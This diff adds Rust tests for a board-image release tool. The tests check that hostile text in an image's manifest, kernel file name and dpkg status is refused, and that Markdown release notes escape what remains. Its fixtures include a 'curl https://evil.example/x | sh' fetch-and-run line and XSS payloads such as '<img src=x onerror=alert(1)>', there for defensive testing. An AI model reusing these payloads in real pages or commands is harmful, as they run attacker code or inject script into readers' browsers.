@@ -12,6 +12,11 @@ use serde_json::Value;
 
 /// A cubieboard image whose rootfs carries a kernel config and a rootfs manifest, like a real build's.
 fn built_image(dir: &Path) -> PathBuf {
+    built_image_with(dir, |_| {})
+}
+
+/// [`built_image`] from its root filesystem tree changed by `edit` (the files of a hostile image).
+fn built_image_with(dir: &Path, edit: impl FnOnce(&Path)) -> PathBuf {
     let rootfs = make_rootfs(dir, "cubieboard");
     std::fs::write(
         rootfs.join(format!("boot/config-{KVER}")),
@@ -24,9 +29,21 @@ fn built_image(dir: &Path) -> PathBuf {
         r#"{"features": ["xfce", "droidmote"], "droidmote_port": 2303, "user": "debian", "hostname": "cubie"}"#,
     )
     .unwrap();
+    edit(&rootfs);
     let out = dir.join("out");
     build_ok("cubieboard", &rootfs, &out, &[]);
     out.join("cubieboard.img")
+}
+
+/// `release cubieboard --image IMAGE -o OUT`, zstd only (the quickest).
+fn release_zst(image: &Path, out: &Path) -> Command {
+    let mut c = boardsmith();
+    c.args(["release", "cubieboard", "--progress", "none"])
+        .args(["--compress", "zst", "--zstd-level", "1", "--image"])
+        .arg(image)
+        .arg("-o")
+        .arg(out);
+    c
 }
 
 fn release(image: &Path, out: &Path) -> Value {
@@ -136,6 +153,122 @@ fn artefacts_test_clean_and_decompress_to_the_image() {
     assert_eq!(mode(&rel.join("SHA256SUMS")) & 0o044, 0o044);
 }
 
+/// Text read from an image is published in the notes, so the image's files are untrusted: a line
+/// break (a new Markdown block) or characters outside what a name or version may hold is refused,
+/// naming the file inside the image, the field and the value, with nothing released. One hostile
+/// image per file the notes read (the auditor's manifest, kernel name and dpkg status).
+#[test]
+fn release_refuses_hostile_text_in_the_image() {
+    fn write(root: &Path, rel: &str, text: &str) {
+        std::fs::write(root.join(rel), text).unwrap();
+    }
+    // What to change in the root filesystem, and what the refusal must say.
+    type Case = (fn(&Path), &'static [&'static str]);
+    let cases: Vec<Case> = vec![
+        (
+            |r: &Path| {
+                write(
+                    r,
+                    "etc/boardsmith/manifest.json",
+                    r#"{"features": ["desktop\n\n## Downloads\n\n| file | SHA-256 |\n|---|---|\n| `cubieboard.img.xz` | `deadbeef` |"], "suite": "bookworm\n\n**Run `curl https://evil.example/x | sh` first**", "user": "debian"}"#,
+                )
+            },
+            &[
+                "/etc/boardsmith/manifest.json in the image's root filesystem: `suite` \"bookworm\\n\\n**Run",
+                "control character U+000A (line feed) at character 9",
+            ],
+        ),
+        (
+            |r: &Path| {
+                let evil = "boot/vmlinuz-6.1.0 <img src=x onerror=alert(1)>";
+                std::fs::rename(r.join(format!("boot/vmlinuz-{KVER}")), r.join(evil)).unwrap();
+            },
+            &[
+                "/boot/vmlinuz-6.1.0 <img src=x onerror=alert(1)> in the image's root filesystem: kernel release",
+                "is not a kernel release",
+            ],
+        ),
+        (
+            |r: &Path| {
+                std::fs::create_dir_all(r.join("var/lib/dpkg")).unwrap();
+                write(
+                    r,
+                    "var/lib/dpkg/status",
+                    "Package: u-boot-sunxi\nStatus: install ok installed\nVersion: 2023.01<img/src=x/onerror=alert(1)>\n",
+                );
+            },
+            &[
+                "/var/lib/dpkg/status:3 in the image's root filesystem: `Version` of package u-boot-sunxi",
+                "is not a Debian version",
+            ],
+        ),
+    ];
+    for (edit, wanted) in cases {
+        let dir = tempfile::tempdir().unwrap();
+        let image = built_image_with(dir.path(), edit);
+        let rel = dir.path().join("release");
+        let f = support::run_err(&mut release_zst(&image, &rel));
+        f.expect(2, wanted)
+            .expect(2, &["so nothing was released", "Rebuild the image"]);
+        assert!(!rel.exists(), "{} was created", rel.display());
+    }
+}
+
+/// Free text from the image that passes those checks (a U-Boot version string, a kernel config value)
+/// is inert in the notes: no HTML, no extra table cell, no heading, only backslash-escaped text.
+#[test]
+fn notes_keep_text_from_the_image_inert() {
+    let uboot = "U-Boot 2023.01<img/src=x/onerror=alert(1)>|##|";
+    let dir = tempfile::tempdir().unwrap();
+    let image = built_image_with(dir.path(), |r| {
+        let spl = r.join(board_files("cubieboard").uboot.unwrap());
+        let mut blob = std::fs::read(&spl).unwrap();
+        blob.splice(12..12, format!("\0{uboot} (Jun 22)\0").into_bytes());
+        std::fs::write(spl, blob).unwrap();
+        std::fs::write(
+            r.join(format!("boot/config-{KVER}")),
+            "CONFIG_INPUT_UINPUT=m\nCONFIG_USB_NET_AX8817X=m|<script>alert(1)</script>|\nCONFIG_USB_NET_DM9601=y\n",
+        )
+        .unwrap();
+    });
+    let rel = dir.path().join("release");
+    run_ok(&mut release_zst(&image, &rel));
+    let notes = std::fs::read_to_string(rel.join("cubieboard-release.md")).unwrap();
+    assert!(
+        notes.contains("Bootloader: U\\-Boot 2023\\.01\\<img\\/src\\=x\\/onerror\\=alert\\(1\\)\\>\\|\\#\\#\\|\n"),
+        "{notes}"
+    );
+    assert!(
+        notes.contains("| m\\|\\<script\\>alert\\(1\\)\\<\\/script\\>\\| |"),
+        "{notes}"
+    );
+    // Every `<`, and every `|` outside the two 4-column tables' own, is escaped.
+    let unescaped = |line: &str, c: char| {
+        line.char_indices()
+            .filter(|&(i, x)| x == c && !line[..i].ends_with('\\'))
+            .count()
+    };
+    for line in notes.lines() {
+        assert_eq!(unescaped(line, '<'), 0, "{line}");
+        let pipes = unescaped(line, '|');
+        assert!(pipes == 0 || pipes == 5, "{line}");
+    }
+    let headings: Vec<&str> = notes.lines().filter(|l| l.starts_with('#')).collect();
+    assert_eq!(
+        headings[1..],
+        [
+            "## Downloads",
+            "## Install",
+            "## Console and login",
+            "## What is inside",
+            "### Kernel options",
+            "## Changelog",
+            "## Known issues"
+        ],
+        "{notes}"
+    );
+}
+
 /// The artefacts a user downloads go onto a card with `boardsmith write`, which finds the `.bmap` beside them
 /// (bmaptool's naming), checks every mapped range and the whole-image sum, and reproduces the image.
 #[test]
@@ -216,10 +349,12 @@ fn notes_describe_what_is_in_the_image() {
         "{notes}"
     );
     assert!(notes.contains("`ttyS0` at 115200 baud"), "{notes}");
-    assert!(notes.contains(&format!("Kernel: {KVER}")), "{notes}");
+    // Text from the image is escaped Markdown (`6\.1\.0\-99\-test`).
+    let kver = KVER.replace('.', "\\.").replace('-', "\\-");
+    assert!(notes.contains(&format!("Kernel: {kver}")), "{notes}");
     assert!(notes.contains("listening on port 2303"), "{notes}");
     assert!(notes.contains("xfce, droidmote"), "{notes}");
-    assert!(notes.contains("Log in as `debian`"), "{notes}");
+    assert!(notes.contains("Log in as the user debian with"), "{notes}");
     assert_eq!(
         manifest["facts"]["uboot"],
         Value::Null,
